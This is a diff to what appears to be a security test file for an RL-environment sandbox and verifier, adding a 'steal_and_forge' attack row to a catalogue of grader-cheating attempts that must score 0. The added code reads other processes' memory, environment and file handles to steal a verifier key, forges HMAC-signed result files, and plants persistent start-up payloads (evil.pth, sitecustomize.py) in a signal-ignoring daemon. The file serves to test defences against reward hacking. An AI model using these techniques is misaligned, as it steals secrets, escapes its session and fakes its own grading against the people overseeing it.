@@ -8,7 +8,9 @@ env's verification). Each row must score 0 while the honest solution scores 1, o
 example (hidden tests, ``atropos.envs.examples.hidden_tests``) and on a small user-style env that
 checks a file with ``Lease.verify`` as the README shows. Real bubblewrap, real processes.
 
-Without the verification phase several rows scored 1.0 (see docs/verification.md).
+Against the earlier design (the verifier a ``bash`` call in the agent's own sandbox, helpers
+dumpable, start-up code of warm interpreters outliving its call) the ``steal_and_forge`` row
+scored 1.0 with the unchanged stub (see docs/verification.md).
 """
 
 from __future__ import annotations
@@ -99,8 +101,38 @@ ENVS["file"] = (_setup_file, file_env_score, "sha256sum data.bin | cut -d' ' -f1
 # What a stolen secret would be turned into: the file env's answer, or a solution.py that answers
 # the coding env's hidden cases from a table.
 FORGE = r'''
-import json, os, re
+import glob, hashlib, hmac, json, os, re
+def forge_results():
+    """Sign a verdict with a stolen key (a guess without one) over every result file in sight."""
+    try:
+        key = bytes.fromhex(open("/workspace/.stolen-key").read().strip())
+    except (OSError, ValueError):
+        key = b"guess"
+    body = json.dumps({"passed": [True] * 4}, separators=(",", ":"))
+    mac = hmac.new(key, body.encode(), hashlib.sha256).hexdigest()
+    try:
+        named = ["/workspace/" + open("/workspace/.stolen-out").read().strip()]
+    except OSError:
+        named = []
+    for f in named + glob.glob("/workspace/.verify-*.json") + glob.glob("/workspace/*.json"):
+        try:
+            with open(f, "w") as fh:
+                json.dump({"body": body, "mac": mac, "score": 1.0}, fh)
+        except OSError:
+            pass
 def forge(found):
+    for k in re.findall(rb'out\\?"\s*:\s*\\?"(\.verify-[0-9a-f]{32}\.json)', found):
+        try:
+            with open("/workspace/.stolen-out", "wb") as fh:
+                fh.write(k)
+        except OSError:
+            pass
+    for k in re.findall(rb'key\\?"\s*:\s*\\?"([0-9a-f]{64})', found):
+        try:
+            with open("/workspace/.stolen-key", "wb") as fh:
+                fh.write(k)
+        except OSError:
+            pass
     for h in re.findall(rb"[0-9a-f]{64}", found):
         try:
             with open("/workspace/answer.txt", "wb") as fh:
@@ -121,36 +153,41 @@ def forge(found):
 SNOOP = FORGE + r'''
 import glob
 def loot():
-    me, found = os.getpid(), b""
+    me, found = os.getpid(), []
     for d in glob.glob("/proc/[0-9]*"):
-        if d == "/proc/%d" % me:
+        try:
+            with open(d + "/cmdline", "rb") as fh:
+                argv = fh.read()
+        except OSError:
             continue
-        for name in ("environ", "cmdline"):
-            try:
-                with open(d + "/" + name, "rb") as fh:
-                    found += fh.read()
-            except OSError:
-                pass
+        if d == "/proc/%d" % me or b"atropos_boot" in argv:  # itself, and its fellow payloads
+            continue
+        found.append(argv)
+        try:
+            with open(d + "/environ", "rb") as fh:
+                found.append(fh.read())
+        except OSError:
+            pass
         for fd in glob.glob(d + "/fd/*"):
             try:
                 f = os.open(fd, os.O_RDONLY | os.O_NONBLOCK)
-                found += os.read(f, 1 << 20)
+                found.append(os.read(f, 1 << 20))
                 os.close(f)
             except OSError:
                 pass
         try:
-            with open(d + "/maps") as maps, open(d + "/mem", "rb") as mem:
+            with open(d + "/maps") as maps, open(d + "/mem", "rb", buffering=0) as mem:
                 for line in maps:
                     lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                     if "rw" in line.split()[1] and hi - lo < (64 << 20):
                         try:
                             mem.seek(lo)
-                            found += mem.read(hi - lo)
+                            found.append(mem.read(hi - lo))
                         except OSError:
                             pass
         except OSError:
             pass
-    return found
+    return b"\0".join(found)
 '''
 
 # Leaves a process behind that snoops and forges for a minute; and, when the supervisor (PID 2)
@@ -175,10 +212,15 @@ def daemon():
     os.setsid()
     if os.fork():
         os._exit(0)
-    import signal
+    import signal, threading
     for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
         signal.signal(s, signal.SIG_IGN)
     end = time.time() + 60
+    def forger():
+        while time.time() < end:
+            forge_results()
+            time.sleep(0.001)
+    threading.Thread(target=forger, daemon=True).start()
     while time.time() < end:
         forge(loot())
         if not os.path.exists("/proc/2") or any("verif" in open(p, "rb").read().decode("latin-1")
@@ -207,7 +249,7 @@ async def startup_files(lease: Lease) -> None:
     site = (await lease.bash("python3 -c 'import site; print(site.getusersitepackages())'"))["stdout"].strip()
     payload = DAEMON + "\ndaemon()\n"
     await lease.write_file(site.removeprefix("/workspace/") + "/evil.pth",
-                           "import os; exec(open('/workspace/.payload.py').read())\n")
+                           "import os; exec(open('/workspace/.payload.py').read(), {'__name__': 'payload'})\n")
     await lease.write_file(".payload.py", payload)
     for name in ("sitecustomize.py", "usercustomize.py"):
         await lease.write_file(site.removeprefix("/workspace/") + "/" + name, payload)
@@ -217,8 +259,9 @@ async def startup_files(lease: Lease) -> None:
         await lease.write_file(name, runner)
     await lease.write_file(".pythonrc.py", payload)
     await lease.bash("export PYTHONSTARTUP=/workspace/.pythonrc.py BASH_ENV=/workspace/.bashrc; true")
+    await lease.bash("true")
+    # the last call is python: a python now waits for the next call, started with the planted files
     await lease.call("python", {"code": "print('warm python after this')"})
-    await lease.bash("true")  # the warm interpreters now start with the planted files
 
 
 async def waiting_daemon(lease: Lease) -> None:
@@ -228,6 +271,14 @@ async def waiting_daemon(lease: Lease) -> None:
     await lease.call("terminal", {"input": _py(DAEMON + "\ndaemon()\n").strip(), "wait_ms": 500})
     await lease.python_session("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', %r], "
                                "start_new_session=True)" % (DAEMON + "\ndaemon()\n"))
+
+
+async def steal_and_forge(lease: Lease) -> None:
+    """Both at once: a process started by planted start-up code steals what it can from the
+    helpers (a verifier key among it) into the workspace, and processes the terminal and
+    python_session keep sign result files with it while the verifier runs."""
+    await waiting_daemon(lease)
+    await startup_files(lease)
 
 
 async def result_files(lease: Lease) -> None:
@@ -296,6 +347,7 @@ ROWS: dict[str, Callable[[Lease], Awaitable[None]]] = {
     "helper_memory": helper_memory,
     "startup_files": startup_files,
     "waiting_daemon": waiting_daemon,
+    "steal_and_forge": steal_and_forge,
     "result_files": result_files,
     "result_links_to_proc": result_links_to_proc,
     "planted_binaries": planted_binaries,
@@ -341,7 +393,7 @@ async def test_the_honest_solution_still_scores_one_beside_every_attack(pool: Sl
     assert await rollout(pool, env, both) == 1.0
 
 
-def test_the_catalogue_has_the_rows_the_readme_counts() -> None:
+async def test_the_catalogue_has_the_rows_the_readme_counts() -> None:
     from pathlib import Path
 
     readme = (Path(__file__).resolve().parent.parent / "README.md").read_text()
